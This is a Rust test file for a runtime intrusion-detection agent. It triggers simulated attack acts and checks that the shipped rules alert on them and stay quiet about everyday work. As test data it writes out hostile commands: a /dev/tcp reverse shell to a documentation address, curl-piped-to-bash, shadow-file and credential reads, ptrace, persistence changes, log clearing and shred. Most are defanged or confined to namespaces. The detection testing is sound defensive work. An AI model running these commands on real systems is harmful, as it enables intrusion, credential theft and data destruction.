//! The rules that are shipped: they load without a word, their examples hold, and on the real kernel they report the
//! acts that they are for and stay quiet about everyday work.

#![expect(clippy::unwrap_used, clippy::print_stdout, reason = "a test says what it saw, and ends where it fails")]

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use serde_json::Value;
use tiercel_loadtest::harness::acts::{self, Act};
use tiercel_loadtest::harness::{
    Agent, AgentSetup, Container, KernelLock, Rootfs, Scope, Scratch, binary, default_rules, kernel_refusal,
    run_bounded, skip, wait_for,
};

const ACTS_LIMIT: Duration = Duration::from_secs(100);
const ALERTS_LIMIT: Duration = Duration::from_secs(20);
const TOOL_LIMIT: Duration = Duration::from_secs(30);

/// An act and a rule that must report it; other rules may too.
struct Row {
    act: Act,
    rule: &'static str,
}

const fn row(name: &'static str, rule: &'static str, script: &'static str) -> Row {
    Row { act: Act { name, what: rule, script }, rule }
}

/// Everything that is made is the test's own and is removed again. What needs a system directory that must not be
/// touched gets a private mount or network namespace.
const ROWS: &[Row] = &[
    row("shadow", "Sensitive file read by unexpected program", "cat /etc/shadow > /dev/null"),
    row(
        "key",
        "Personal keys or cloud credentials read by unexpected program",
        "mkdir -p $T/.ssh; echo x > $T/.ssh/id_ed25519; cat $T/.ssh/id_ed25519 > /dev/null",
    ),
    row("search", "Search for keys or passwords", "find $T -name id_rsa"),
    row("link", "Link made to a sensitive file", "ln /etc/shadow $T/hl; rm -f $T/hl"),
    row("environ", "Memory or environment of another process read", "cat /proc/$$/environ > /dev/null"),
    row("bind", "Sensitive path mounted over or elsewhere", "touch $T/b; unshare -m mount --bind /etc/shadow $T/b"),
    row(
        "setns",
        "Namespace entered by unexpected program",
        "python3 -c \"import ctypes, os; ctypes.CDLL(None).setns(os.open('/proc/self/ns/uts', 0), 0)\"",
    ),
    row("userns", "User namespace made by unexpected program", "cp /usr/bin/unshare $T/spread; $T/spread -U true"),
    row(
        "docker-socket",
        "Container runtime socket used by unexpected program",
        "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.bind('docker.sock'); s.listen()\n\
         c = socket.socket(socket.AF_UNIX); c.connect('docker.sock')\"",
    ),
    row("web-shell", "Shell started by a web server", "cp /bin/bash $T/nginx; $T/nginx -c 'sh -c true; true'"),
    row(
        "database",
        "Program started by a database server",
        "cp /bin/bash $T/postgres; $T/postgres -c 'sh -c true; true'",
    ),
    row("reverse-shell", "Standard stream redirected to a network connection", REVERSE_SHELL),
    row("outbound", "Unexpected outbound connection", REVERSE_SHELL),
    row("listen", "Interpreter listens on an unusual port", REVERSE_SHELL),
    row("relay", "Relay tool told to run a program", "timeout 1 ncat -l 127.0.0.1 0 -e /bin/true"),
    row(
        "memfd",
        "Program run from anonymous memory",
        "python3 -c \"import os; f = os.memfd_create('x'); os.write(f, open('/bin/true', 'rb').read()); os.execv(f'/proc/self/fd/{f}', ['x'])\"",
    ),
    row(
        "shared-memory",
        "Program run from shared memory",
        "cp /bin/true /dev/shm/tiercel-own; /dev/shm/tiercel-own; rm -f /dev/shm/tiercel-own",
    ),
    row(
        "scratch",
        "Program run from a scratch directory by a service account",
        "cp /bin/true /tmp/tiercel-own-$$; setpriv --reuid nobody --clear-groups /tmp/tiercel-own-$$; rm -f /tmp/tiercel-own-$$",
    ),
    row("miner", "Cryptocurrency miner started", "bash -c 'true stratum+tcp://pool.invalid:3333; true'"),
    row("pipe", "Download piped into a shell", "bash -c 'false && curl -s http://203.0.113.9/i | bash; true'"),
    row("ssh-key", "SSH login key added", "mkdir -p $T/.ssh; echo '# none' | tee $T/.ssh/authorized_keys > /dev/null"),
    row(
        "cron",
        "Scheduled job changed",
        "F=/etc/cron.d/tiercel-own-test; echo '# nothing' | tee $F > /dev/null; rm -f $F",
    ),
    row(
        "unit",
        "Service unit or start script changed",
        "unshare -m bash -c 'mount -t tmpfs none /etc/systemd && mkdir /etc/systemd/system && touch /etc/systemd/system/x.service'",
    ),
    row(
        "preload",
        "Loader preload file changed",
        "[ -e /etc/ld.so.preload ] || { touch /etc/ld.so.preload; rm -f /etc/ld.so.preload; }",
    ),
    row("bashrc", "Shell start-up file changed", "echo x | tee $T/.bashrc > /dev/null"),
    row(
        "binary-directory",
        "Program directory written",
        "mkdir /usr/bin/tiercel-own-dir; rmdir /usr/bin/tiercel-own-dir",
    ),
    row(
        "binary-removed",
        "Program removed or renamed",
        "mkdir /usr/bin/tiercel-own-dir; rmdir /usr/bin/tiercel-own-dir",
    ),
    row(
        "pam",
        "Login policy or PAM module changed",
        "unshare -m bash -c 'mount -t tmpfs none /etc/pam.d && touch /etc/pam.d/sshd'",
    ),
    row(
        "account",
        "Account database changed by unexpected program",
        "cp /etc/passwd $T/p; unshare -m bash -c \"mount --bind $T/p /etc/passwd && touch /etc/passwd\"",
    ),
    row("etc", "Configuration below etc written", "touch /etc/tiercel-own-test.conf; rm -f /etc/tiercel-own-test.conf"),
    row(
        "root",
        "Became root through an unexpected program",
        "bash -c 'echo 4711 > /proc/self/loginuid; python3 -c \"import os; os.setuid(0)\"; true'",
    ),
    row("setuid-bit", "Setuid bit put on a file", "touch $T/u; chmod u+s $T/u"),
    row(
        "ptrace",
        "Process attached to with ptrace",
        "sleep 5 & python3 -c \"import ctypes, os; c = ctypes.CDLL(None); c.ptrace(16, $!, 0, 0); os.waitpid($!, 0x40000000); c.ptrace(17, $!, 0, 0)\"; kill $!",
    ),
    row(
        "memory",
        "Memory of another process written",
        "sleep 5 & python3 -c \"import ctypes; ctypes.CDLL(None).process_vm_writev($!, None, 0, None, 0, 0)\"; kill $!",
    ),
    row(
        "userfaultfd",
        "Page faults handled by an unprivileged program",
        "setpriv --reuid nobody --clear-groups python3 -c \"import ctypes; ctypes.CDLL(None).syscall(323, 1)\"",
    ),
    row(
        "io-uring",
        "Asynchronous input and output ring made by unexpected program",
        "cp /usr/bin/python3 $T/ring; $T/ring -c \"import ctypes; ctypes.CDLL(None).syscall(425, 1, ctypes.create_string_buffer(120))\"",
    ),
    row(
        "log",
        "Login or audit log cleared",
        "unshare -m bash -c 'mount -t tmpfs none /var/log && : > /var/log/auth.log'",
    ),
    row("history", "Shell history removed", "echo x > $T/.bash_history; rm -f $T/.bash_history"),
    row("shred", "Data destroyed in bulk", "echo x > $T/shred; shred -u $T/shred"),
    row(
        "sensor",
        "Sensor signalled or its files changed",
        "cp /bin/sleep $T/tiercel-agent; $T/tiercel-agent 5 & sleep 0.2; kill -KILL $!; wait",
    ),
    row(
        "trace-me",
        "Program guards itself against debuggers",
        "python3 -c 'import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)'",
    ),
    row("scanner", "Network reconnaissance tool started", "cp /bin/true $T/nmap; $T/nmap"),
];

/// A private network with an address of documentation on its loopback device, a listener, and a shell that connects
/// its output to it.
const REVERSE_SHELL: &str = "unshare -n bash -c 'ip addr add 203.0.113.9/32 dev lo; ip link set lo up\n\
    timeout 2 nc -l 203.0.113.9 31337 > /dev/null & sleep 0.4; bash -c \"exec 5<> /dev/tcp/203.0.113.9/31337; exec 1>&5; echo x\"; wait'";

/// Acts inside a container that has all capabilities.
const CONTAINER_ROWS: &[Row] = &[
    row(
        "packet",
        "Packet socket opened in a container",
        "python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768)'",
    ),
    row("release-agent", "Kernel helper file written from a container", "echo x > $T/release_agent"),
    row("decode", "Payload decoded in a container", "echo aGVsbG8= | base64 -d > /dev/null"),
    row(
        "module",
        "Kernel module loaded from a container",
        "python3 -c \"import ctypes; ctypes.CDLL(None).syscall(313, -1, b'', 0)\"",
    ),
    row("mount", "Mount made inside a container", "mkdir $T/m; mount -t tmpfs none $T/m"),
    row(
        "dropped",
        "Program run that was not in the image",
        "mkdir $T/l $T/o $T/s; mount -t tmpfs none $T/s; mkdir $T/s/u $T/s/w\n\
         mount -t overlay -o lowerdir=$T/l,upperdir=$T/s/u,workdir=$T/s/w none $T/o; cp /bin/true $T/o/dropped; $T/o/dropped",
    ),
    row("package-manager", "Package manager run in a container", "cp /bin/true $T/apk; $T/apk add gcc"),
    row("enter", "Namespace entered by unexpected program", "nsenter -t $$ -u true"),
    row("user-namespace", "User namespace made by unexpected program", "unshare -U true"),
    row("disk", "Disk or memory of the host opened in a container", "touch /dev/sda; head -c 1 /dev/sda"),
    row(
        "token",
        "Kubernetes service token read by a shell tool",
        "D=$T/secrets/kubernetes.io/serviceaccount; mkdir -p $D; echo x > $D/token; cat $D/token > /dev/null",
    ),
];

/// Programs that the acts need in the container.
const CONTAINER_PROGRAMS: &[&str] = &[
    "base64", "bash", "cat", "cp", "head", "mkdir", "mount", "nsenter", "python3", "sleep", "touch", "true", "unshare",
];

/// The first process of a container with all capabilities is reported before it has done anything.
const AT_START: &str = "Privileged container started";

const CONTAINER_ID: &str = "8d41f0a6c2b3e59716fa0c3d8e7b92145a6c0e1f2d3b48597a6c8e0d1f2b3c4d";

/// What machines do all day.
const EVERYDAY: &[Act] = &[
    everyday(
        "look-around",
        "ls -lR /etc > /dev/null 2>&1; cat /etc/hostname /etc/passwd > /dev/null; id > /dev/null; ps aux > /dev/null",
    ),
    everyday(
        "build",
        "echo 'int main(void) { return 0; }' > $T/a.c; cc -o $T/a.out $T/a.c 2> /dev/null && $T/a.out; true",
    ),
    everyday("archive", "tar -czf $T/a.tgz -C /etc hostname; tar -xzf $T/a.tgz -C $T; rm -rf $T/hostname"),
    everyday(
        "package-query",
        "dpkg -l > /dev/null; dpkg -L coreutils > /dev/null; apt-cache policy bash > /dev/null 2>&1",
    ),
    everyday(
        "script",
        "python3 -c 'import json, subprocess; subprocess.run([\"true\"]); print(json.dumps({}))' > /dev/null",
    ),
    everyday("key-pair", "ssh-keygen -q -t ed25519 -N '' -f $T/own-key < /dev/null > /dev/null; true"),
    everyday(
        "look-for-words",
        "grep -rl localhost /etc/hosts > /dev/null; find /usr/share/doc -maxdepth 1 > /dev/null",
    ),
    everyday(
        "loopback",
        "timeout 3 python3 -m http.server --bind 127.0.0.1 18999 > /dev/null 2>&1 & sleep 1; curl -s http://127.0.0.1:18999/ > /dev/null; kill $!; wait",
    ),
    everyday("temporary", "f=$(mktemp); echo x > $f; mv $f $f.2; chmod 600 $f.2; rm $f.2; mkdir -p $T/d/e; rm -r $T/d"),
    everyday("other-user", "setpriv --reuid nobody --clear-groups id > /dev/null"),
];

const fn everyday(name: &'static str, script: &'static str) -> Act {
    Act { name, what: name, script }
}

#[test]
fn they_load_without_errors_or_warnings() {
    let output = agent(&["rules", "check"]);
    let said = String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr);
    println!("{said}");
    assert!(output.status.success());
    assert!(!said.to_lowercase().contains("warning"), "{said}");
}

#[test]
fn their_examples_hold() {
    let output = agent(&["rules", "test"]);
    println!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert!(output.status.success());
}

#[test]
fn they_report_attacks_and_stay_quiet_about_everyday_work() {
    if let Some(why) = kernel_refusal() {
        return skip("they_report_attacks_and_stay_quiet_about_everyday_work", &why);
    }
    let _lock = KernelLock::take().unwrap();
    let scratch = Scratch::new("default-rules").unwrap();
    let scope = Scope::create("default-rules").unwrap();
    let agent = start_agent(&scratch, &scope);
    let script = scratch.join("actions.sh");
    acts::write_script(&script, ROWS.iter().map(|row| &row.act).chain(EVERYDAY)).unwrap();
    let output = run_bounded(scope.command(&script).arg(scratch.join("acts")), ACTS_LIMIT).unwrap();
    println!("{}", String::from_utf8_lossy(&output.stderr));

    let alerts = acts::by_act(&wait_for_all(&agent));
    let mut faults = missed(ROWS, &alerts);
    for act in EVERYDAY {
        let rules = rules_of(act, &alerts);
        if !rules.is_empty() {
            faults.push(format!("everyday work {}: got {rules:?}", act.name));
        }
    }
    assert!(faults.is_empty(), "{faults:#?}");
}

#[test]
fn they_report_attacks_inside_a_container() {
    if let Some(why) = kernel_refusal() {
        return skip("they_report_attacks_inside_a_container", &why);
    }
    let _lock = KernelLock::take().unwrap();
    let scratch = Scratch::new("default-rules-container").unwrap();
    let scope = Scope::create("default-rules-container").unwrap();
    let rootfs = Rootfs::build(&scratch.join("rootfs"), CONTAINER_PROGRAMS).unwrap();
    rootfs.copy_python().unwrap();
    acts::write_script(&rootfs.inside(Path::new("/usr/bin/actions.sh")), CONTAINER_ROWS.iter().map(|row| &row.act))
        .unwrap();
    let agent = start_agent(&scratch, &scope);
    let command = ["/usr/bin/actions.sh", "/tmp/acts"];
    let container = Container::prepare(&scratch.join("bundle"), CONTAINER_ID, &rootfs, &scope, &command).unwrap();
    let output = container.run(ACTS_LIMIT).unwrap();
    println!("{}", String::from_utf8_lossy(&output.stderr));

    let alerts = wait_for_all(&agent);
    let faults = missed(CONTAINER_ROWS, &acts::by_act(&alerts));
    assert!(faults.is_empty(), "{faults:#?}");
    let at_start = alerts.iter().filter(|alert| alert["rule"] == AT_START).count();
    assert_eq!(at_start, 1, "{AT_START}: {:?}", acts::rule_names(&alerts));
}

fn start_agent(scratch: &Scratch, scope: &Scope) -> Agent {
    let mut rules = vec![scratch.write("00-mark.yaml", acts::MARK_RULE).unwrap()];
    rules.extend(rule_files());
    let setup = AgentSetup { rules, scope: scope.section(), uplink: None };
    Agent::start(&scratch.join("agent"), &setup).unwrap()
}

fn wait_for_all(agent: &Agent) -> Vec<Value> {
    let complete = wait_for("the alert of the last mark", ALERTS_LIMIT, || {
        let alerts = agent.alerts();
        acts::is_complete(&alerts).then_some(alerts)
    });
    complete.unwrap_or_else(|error| panic!("{error}{}", agent.daemon().log_tail()))
}

fn rules_of(act: &Act, alerts: &[(String, Vec<Value>)]) -> Vec<String> {
    let own = alerts.iter().find(|(name, _)| name == act.name);
    own.map_or_else(Vec::new, |(_, alerts)| acts::rule_names(alerts))
}

/// Prints what each act gave, and returns those that lack their rule.
fn missed(rows: &[Row], alerts: &[(String, Vec<Value>)]) -> Vec<String> {
    let mut faults = Vec::new();
    for row in rows {
        let rules = rules_of(&row.act, alerts);
        println!("{:18} {rules:?}", row.act.name);
        if !rules.iter().any(|rule| rule == row.rule) {
            faults.push(format!("{}: expected \"{}\", got {rules:?}", row.act.name, row.rule));
        }
    }
    faults
}

fn agent(arguments: &[&str]) -> std::process::Output {
    let mut command = Command::new(binary("tiercel-agent").unwrap());
    run_bounded(command.args(arguments).args(rule_files()), TOOL_LIMIT).unwrap()
}

fn rule_files() -> Vec<PathBuf> {
    let entries = std::fs::read_dir(default_rules()).unwrap();
    let mut files: Vec<PathBuf> = entries.map(|entry| entry.unwrap().path()).collect();
    files.sort();
    files
}
